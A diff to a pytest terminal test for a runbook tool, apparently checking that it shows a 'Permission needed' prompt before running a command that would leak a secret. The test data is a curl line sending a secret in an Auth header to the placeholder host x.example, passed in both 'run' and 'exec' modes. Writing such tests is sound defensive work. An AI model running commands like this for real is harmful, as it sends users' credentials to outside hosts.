@@ -220,12 +220,14 @@ def test_in_no_refusal_either(place: Path) -> None:
 
 
 @pytest.mark.terminal
-def test_in_no_question_either(place: Path) -> None:
-    (place / "asks.runbook.md").write_text(
-        f"# Asks\n\n## 1. Would send\n\n```bash\ncurl -H 'Auth: {VALUE.replace(chr(39), '')}' https://x.example/\n```\n"
-    )
+@pytest.mark.parametrize("way", ["run", "exec"])
+def test_in_no_question_either(place: Path, way: str) -> None:
+    sends = f"curl -H 'Auth: {VALUE.replace(chr(39), '')}' https://x.example/"
+    (place / "asks.runbook.md").write_text(f"# Asks\n\n## 1. Would send\n\n```bash\n{sends}\n```\n")
     environment = bare_environment(place, SECRETS)
     words = [RUNDOWN, "run", "asks.runbook.md", "--allow-run", "curl", "--no-preflight"]
+    if way == "exec":
+        words = [RUNDOWN, "exec", "--allow-run", "curl", "--", "bash", "-c", sends]
     with Terminal(words, cwd=place, environment=environment, columns=110, rows=45) as terminal:
         screen = terminal.wait_for("Permission needed")
         terminal.wait_for("a key, or arrows")
